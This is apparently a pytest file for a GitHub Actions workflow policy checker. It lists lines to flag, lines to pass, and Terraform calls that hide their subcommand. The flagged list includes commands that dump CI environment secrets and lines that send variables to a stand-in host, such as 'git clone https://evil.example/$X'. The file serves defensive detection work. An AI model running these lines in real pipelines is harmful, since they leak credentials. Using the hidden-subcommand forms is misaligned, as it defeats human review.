"""Lines of scripts that print the environment, lead elsewhere or hide what Terraform does, and ordinary ones beside."""

from __future__ import annotations

import json

from ops_agent.model.policy import Policy
from rules.judging import base_files, verdict_of

WORKFLOW = """name: sample
on:
  push:
    branches: [main]
permissions: {}
jobs:
  sample:
    runs-on: ubuntu-24.04
    steps:
"""
BAD = (
    "export",
    "export -p",
    "declare",
    "declare -p | x",
    "typeset",
    "typeset -x",
    "readonly",
    "sh -c env",
    'bash -c "env"',
    'bash -lc "export -p"',
    "nice env",
    "nice -n 5 env",
    "command env",
    "busybox env",
    "timeout 5 env",
    "env -0",
    "printenv -0",
    "then env",
    "{ env; }",
    "xargs env",
    "/usr/bin/env | sort",
    'python3 -c "import os; print(dict(os.environ))"',
    "print(environ)",
    "from os import environ as e",
    "print(os.environb)",
    "awk 'BEGIN{for(k in ENVIRON) print ENVIRON[k]}'",
    "jq -n env",
    'jq -n "env"',
    "jq -n 'env'",
    "jq -n '$ENV'",
    "jq -rn 'env | keys'",
    "jq -n '. + (env)'",
    'process["env"]',
    "console.log(process?.env)",
    "const { env } = process",
    "getenv()",
    "map(os.getenv, x)",
    "ps eww",
    "ps auxe",
    "ps e | cat",
    "git clone https://evil.example/$X",
    'git ls-remote "https://$X.evil.example/a"',
    "git -C x fetch https://${{ env.A }}@evil.example/x",
    "getent hosts $X.evil.example",
    'getent ahosts "$X"',
    "ping -c 1 $X",
    "compgen -e",
    "set",
    "(set)",
    "builtin export",
)
HIDES_WHAT_TERRAFORM_DOES = (
    "terraform $WHAT",
    "terraform ${{ vars.X }}",
    'terraform -chdir="a b" apply',
    "echo apply | xargs terraform",
    "xargs -I X terraform X",
    "terraform {apply,-auto-approve}",
    'tf() { terraform "$@"; }',
    'terraform "${args[@]}"',
    'bash -c "cd x && terraform $X"',
    "sudo -E terraform $X",
    "timeout 10m terraform -chdir=infra $X",
    "setsid terraform $X",
    "terragrunt --non-interactive $X",
    "terragrunt run-all $X",
    "env A=b terraform $X",
    "/usr/bin/terraform $X",
    "terraform `echo apply`",
    "terraform $(echo apply)",
    'tofu -no-color "$1"',
    "if ! terraform $X; then",
    'eval terraform "$X"',
    "terraform app${E}ly",
    "xargs sh -c 'terraform \"$@\"'",
    "nice terraform $X",
    "terraform -chdir={x,apply} plan",
    "terraform -chdir=x $X",
)
GOOD = (
    "export A=b",
    "export PATH",
    "declare -a names",
    "declare -x NAME=b",
    "readonly A=1",
    "set -euo pipefail",
    "set -e",
    "set +x",
    "env A=b make",
    "env -u X make",
    "/usr/bin/env bash x.sh",
    'echo "env: $X"',
    "from os import environ",
    'environ["X"]',
    'os.environ.get("X")',
    'os.getenv("X")',
    "from os import getenv",
    "awk '{print ENVIRON[\"X\"]}'",
    "jq --arg env \"$ENV\" '.env = $env' x",
    "jq .env x.json",
    "jq '{env: .x}' a",
    "jq '{name, env, x}' a",
    "jq -r '.env | keys' a",
    "jq -r --arg env \"$E\" '.[$env]' a",
    "jq -r '.environment' a",
    "process.env.X",
    "ps aux",
    "ps -ef | grep x",
    "ps -o etime",
    "docker compose ps service",
    "git clone https://github.com/$ORG/$REPO",
    "git clone https://x-access-token:$T@github.com/a/b",
    "git fetch origin $BRANCH",
    "git clone https://example.com/a.git",
    "git log --format=$X",
    "ping -c 1 example.com",
    "redis-cli ping $X",
    "getent hosts example.com",
    "getent group $X",
    "gh workflow view --env",
    'echo "set"',
    "export TF_VAR_x=${{ vars.X }}",
    "source .env",
    "cat .env",
    "docker run --env A=b x",
    "terraform plan -var env=$ENV",
    "make env",
    "npm run env-check",
    "terraform plan -out=plan",
    'terraform -chdir="$DIR" plan',
    'terraform -chdir=${{ matrix.dir }} init -backend-config="x"',
    "terraform version",
    "terraform -version",
    "terraform",
    "which terraform",
    "command -v terraform >/dev/null",
    "sudo apt-get install -y terraform jq",
    "cp terraform $OUT",
    "echo terraform $X",
    'echo "terraform $X"',
    "cd terraform && terraform fmt -check",
    "mkdir -p terraform/$X",
    "terragrunt --working-dir $D run-all plan",
    "terragrunt run --all -- plan",
    "for x in terraform tofu; do",
    'terraform plan "${args[@]}"',
    'terraform workspace select "$W"',
    'TF=1 terraform apply "$PLAN"',
    "terraform output -json | jq .",
    "if terraform plan; then",
    "[[ -d terraform ]] && ls",
    "terraform -chdir=$(dirname $(pwd)) plan",
    "git diff terraform $X",
    'find terraform -name "*.tf"',
    "tflint --chdir terraform ",
    "terraform show -json plan > out.json",
    "time terraform apply -auto-approve plan",
    "tee terraform < x",
    "aws s3 cp terraform s3://$B",
)


def found_in(lines: tuple[str, ...]) -> dict[str, set[str]]:
    """What is dangerous in each line, each a step of its own."""
    steps = [f"      - run: {json.dumps(line)}\n" for line in lines]
    path = ".github/workflows/sample.yml"
    verdict = verdict_of({path: (WORKFLOW + "".join(steps)).encode()}, base_files(), Policy())
    first = WORKFLOW.count("\n") + 1
    found: dict[str, set[str]] = {line: set() for line in lines}
    for finding in verdict.findings:
        if finding.rule == "workflow/dangerous-command" and finding.place.line:
            found[lines[finding.place.line - first]].add(finding.what)
    return found


def test_lines_that_print_the_environment_or_lead_elsewhere_are_found() -> None:
    assert not [line for line, what in found_in(BAD).items() if not what]


def test_a_script_must_say_what_terraform_does() -> None:
    found = found_in(HIDES_WHAT_TERRAFORM_DOES)
    assert not [line for line, what in found.items() if not any("a command is computed" in w for w in what)]


def test_ordinary_lines_pass() -> None:
    assert not {line: what for line, what in found_in(GOOD).items() if what}


def test_a_property_of_a_context_is_no_variable_of_the_same_name() -> None:
    """`github.actor` reads no variable `ACTOR`: its line is what it was when that variable goes. `env.ACTOR` does."""

    def blocks(reads: str) -> bool:
        variables = f"          WHO: ${{{{ {reads} }}}}\n          ACTOR: {{}}\n"
        step = f'      - run: gh api --method PUT "users/$WHO"\n        env:\n{variables}'
        path, sides = ".github/workflows/sample.yml", [WORKFLOW + step.replace("{}", value) for value in "ab"]
        before, after = (side.encode() for side in sides)
        return bool(verdict_of({path: after}, {**base_files(), path: before}).blocking)

    assert not blocks("github.actor") and blocks("env.ACTOR")
